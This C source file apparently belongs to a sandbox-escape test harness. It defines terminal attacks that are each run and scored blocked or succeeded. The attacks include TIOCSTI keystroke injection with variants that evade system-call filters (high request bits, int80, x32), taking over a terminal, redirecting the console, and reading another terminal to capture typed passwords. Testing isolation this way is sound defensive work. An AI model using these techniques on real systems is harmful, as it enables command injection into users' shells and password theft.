/* SPDX-License-Identifier: MIT */

/* The caller's terminal, on which run.py starts these. What is typed there, the caller runs. */

#include "attack.h"
#include "reach.h"

#include "base/attr.h"

#include <fcntl.h>
#include <poll.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>

/* The terminal by its name, or standard input. */
static int
terminal(void)
{
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);

	return fd >= 0 ? fd : STDIN_FILENO;
}

/* ---- typing ---------------------------------------------------------------------------------- */

static enum outcome
type_by_ioctl(const struct scene *s)
{
	int fd = terminal();
	const char *key;

	for (key = s->keys; *key != '\0'; key++) {
		if (ioctl(fd, TIOCSTI, key) != 0) {
			return blocked("TIOCSTI");
		}
	}
	return succeeded("typed");
}

/* The kernel takes the lower half of the request, a filter may compare the whole. */
static enum outcome
type_with_high_bits(const struct scene *s)
{
	int fd = terminal();
	const char *key;

	for (key = s->keys; *key != '\0'; key++) {
		if (syscall(SYS_ioctl, fd, 0xffffffff00000000UL | TIOCSTI, key) != 0) {
			return blocked("TIOCSTI");
		}
	}
	return succeeded("typed");
}

static enum outcome
type_by_int80(const struct scene *s)
{
	char *low = low_memory(4096);
	const char *key;

	if (low == NULL) {
		return not_applicable("no memory below 4 GiB");
	}
	for (key = s->keys; *key != '\0'; key++) {
		*low = *key;
		if (int80(I386_IOCTL, STDIN_FILENO, TIOCSTI, low_address(low), 0) != 0) {
			return blocked("int80 TIOCSTI");
		}
	}
	return succeeded("typed");
}

static enum outcome
type_by_x32(const struct scene *s)
{
	int fd = terminal();
	const char *key;

	for (key = s->keys; *key != '\0'; key++) {
		long result = x32(514, fd, TIOCSTI, (long)key); /* ioctl in the x32 table */

		if (x32_is_missing(result)) {
			return not_applicable("no x32 system calls");
		}
		if (result != 0) {
			return blocked("x32 TIOCSTI");
		}
	}
	return succeeded("typed");
}

/* ---- the rest -------------------------------------------------------------------------------- */

/* Pastes a selection, on a console. Elsewhere the kernel says ENOTTY or EINVAL. */
static enum outcome
paste(const struct scene *s)
{
	char request[2] = { 3, 0 };

	(void)s;
	if (ioctl(STDIN_FILENO, TIOCLINUX, request) == 0 || errno == ENOTTY || errno == EINVAL) {
		return isatty(STDIN_FILENO) ? succeeded("the kernel was reached")
					    : blocked("no terminal");
	}
	return blocked("TIOCLINUX");
}

static enum outcome
set_line_discipline(const struct scene *s)
{
	int same = 0; /* N_TTY */

	(void)s;
	return tried(ioctl(STDIN_FILENO, TIOCSETD, &same), "TIOCSETD");
}

/* A session takes the terminal of another. */
static enum outcome
take_terminal(const struct scene *s)
{
	const int steal = 1;
	int result;

	(void)s;
	(void)setsid();
	result = ioctl(STDIN_FILENO, TIOCSCTTY, steal);
	if (result != 0 && getuid() != 0) {
		return not_applicable("the user may not");
	}
	return tried(result, "TIOCSCTTY");
}

static enum outcome
redirect_console(const struct scene *s)
{
	int result = ioctl(STDIN_FILENO, TIOCCONS);

	(void)s;
	if (result != 0 && getuid() != 0) {
		return not_applicable("the user may not");
	}
	return tried(result, "TIOCCONS");
}

static enum outcome
open_terminal(const struct scene *s)
{
	(void)s;
	return tried(open("/dev/tty", O_RDWR | O_CLOEXEC), "open");
}

static enum outcome
set_attributes(const struct scene *s)
{
	struct termios attributes;

	(void)s;
	if (tcgetattr(STDIN_FILENO, &attributes) != 0) {
		return blocked("tcgetattr");
	}
	attributes.c_lflag &= ~(tcflag_t)ECHO;
	return tried(tcsetattr(STDIN_FILENO, TCSANOW, &attributes), "tcsetattr");
}

/* Whoever opens a terminal reads what is typed there, passwords included. */
static enum outcome
read_other(const struct scene *s)
{
	int fd = open(s->terminal, O_RDONLY | O_NOCTTY | O_CLOEXEC);
	struct pollfd typed = { .fd = fd, .events = POLLIN };

	if (fd < 0) {
		return blocked("open %s", s->terminal);
	}
	return poll(&typed, 1, 2000) == 1 ? show_file(fd) : blocked("nobody types");
}

static enum outcome
write_other(const struct scene *s)
{
	return write_mark(open(s->terminal, O_WRONLY | O_NOCTTY | O_CLOEXEC));
}

const struct attack tty_attacks[] = {
	{ "tiocsti", PROOF_TERMINAL, "types on the terminal", type_by_ioctl },
	{ "tiocsti_high_bits", PROOF_TERMINAL, "types with garbage in the upper half",
	  type_with_high_bits },
	{ "tiocsti_int80", PROOF_TERMINAL, "types by the 32-bit table", type_by_int80 },
	{ "tiocsti_x32", PROOF_TERMINAL, "types by the x32 table", type_by_x32 },
	{ "tioclinux", PROOF_CALL, "pastes on the console", paste },
	{ "tiocsetd", PROOF_CALL, "sets the line discipline", set_line_discipline },
	{ "tiocsctty", PROOF_CALL, "makes the terminal its own", take_terminal },
	{ "tioccons", PROOF_CALL, "redirects the console", redirect_console },
	{ "open", PROOF_CALL, "opens /dev/tty", open_terminal },
	{ "read_other", PROOF_SECRET, "reads what is typed on another terminal", read_other },
	{ "write_other", PROOF_CALL, "writes on another terminal", write_other },
	{ "tcsetattr", PROOF_CALL, "turns echo off", set_attributes },
	{ 0 },
};
